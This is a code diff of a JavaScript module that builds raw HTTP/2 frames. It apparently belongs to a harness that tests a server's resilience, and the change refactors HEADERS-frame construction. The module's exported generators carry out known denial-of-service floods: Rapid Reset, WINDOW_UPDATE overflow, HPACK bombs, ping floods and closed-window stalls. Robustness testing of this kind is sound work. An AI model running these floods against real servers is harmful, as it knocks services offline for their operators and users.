@@ -46,6 +46,9 @@ function literal(name, value) {
 /** `:method` GET, `:scheme` http, `:authority` a, and `:path` (RFC 7541, Appendix A). */
 const head = (path) => Buffer.concat([Buffer.of(0x82, 0x86), literal(1, "a"), literal(4, path)]);
 
+/** A request without a body; `block` is its head, or what claims to be one. */
+const request = (stream, block) => frame(FRAME.headers, FLAG.endStream | FLAG.endHeaders, stream, block);
+
 /** Sends the preface, `first`, and what `next` gives for the highest stream so far, again and again. */
 function pour(socket, next, first = Buffer.alloc(0)) {
   let stream = -1;
@@ -72,7 +75,7 @@ export const rapidReset = flood(
   "requests and RST_STREAM behind each",
   (stream) =>
     Buffer.concat([
-      frame(FRAME.headers, FLAG.endStream | FLAG.endHeaders, stream, head("/page")),
+      request(stream, head("/page")),
       frame(FRAME.reset, 0, stream, uint32(CANCEL)),
     ]),
 );
@@ -82,7 +85,7 @@ export const madeReset = flood(
   "requests, and a WINDOW_UPDATE behind each that makes its window too large",
   (stream) =>
     Buffer.concat([
-      frame(FRAME.headers, FLAG.endStream | FLAG.endHeaders, stream, head("/page")),
+      request(stream, head("/page")),
       frame(FRAME.windowUpdate, 0, stream, uint32(2 ** 31 - 1)),
     ]),
 );
@@ -105,7 +108,7 @@ const BOMB = Buffer.concat([
 export const hpackBombs = flood(
   "HPACK bombs",
   "header blocks of 5 KB that stand for 4 MB",
-  (stream) => frame(FRAME.headers, FLAG.endStream | FLAG.endHeaders, stream, BOMB),
+  (stream) => request(stream, BOMB),
 );
 
 export const pings = flood(
@@ -136,7 +139,7 @@ export const closedWindows = {
       const none = Buffer.concat([Buffer.of(0, INITIAL_WINDOW_SIZE), uint32(0)]);
       const requests = Array.from(
         { length: STREAMS },
-        (_, i) => frame(FRAME.headers, FLAG.endStream | FLAG.endHeaders, 1 + 2 * i, head("/text")),
+        (_, i) => request(1 + 2 * i, head("/text")),
       );
       socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, none), ...requests]));
       return socket;
